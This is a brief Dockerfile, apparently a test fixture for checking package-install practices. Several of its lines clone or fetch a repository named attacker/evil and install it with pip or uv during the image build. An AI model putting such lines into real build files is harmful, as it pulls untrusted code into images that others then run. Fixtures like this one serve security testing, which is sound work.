FROM python:3.12
RUN git clone https://github.com/attacker/evil /src/evil && pip install --only-binary :all: /src/evil
ADD https://github.com/attacker/evil.git#v1.0 /src/evil2
RUN pip install --only-binary :all: /src/evil2
RUN cd /src && git clone https://github.com/attacker/evil && uv pip install --system --no-build ./evil
COPY . /app
RUN pip install --only-binary :all: /app
